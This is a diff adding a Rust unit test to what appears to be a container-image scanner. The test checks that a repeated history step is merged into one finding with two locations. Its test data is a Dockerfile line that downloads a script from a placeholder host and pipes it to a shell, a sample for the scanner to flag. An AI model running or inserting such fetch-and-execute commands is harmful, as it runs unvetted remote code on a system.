@@ -57,6 +57,16 @@ fn names_that_hold_secrets_are_not_shown() {
 }
 
 #[test]
+fn one_identity_is_one_finding() {
+    let step = "RUN curl https://e.example/i | sh";
+    let scan = scan_image(&target("a:1"), &with_history(&[step, "RUN x", step]));
+    assert_eq!(scan.findings.len(), 1);
+    let places: Vec<_> =
+        scan.findings[0].locus.locations.iter().map(|place| place.path.as_str()).collect();
+    assert_eq!(places, ["history:1", "history:3"]);
+}
+
+#[test]
 fn a_sound_image_is_without_findings() {
     assert_eq!(rules(&image()), Vec::<String>::new());
 }
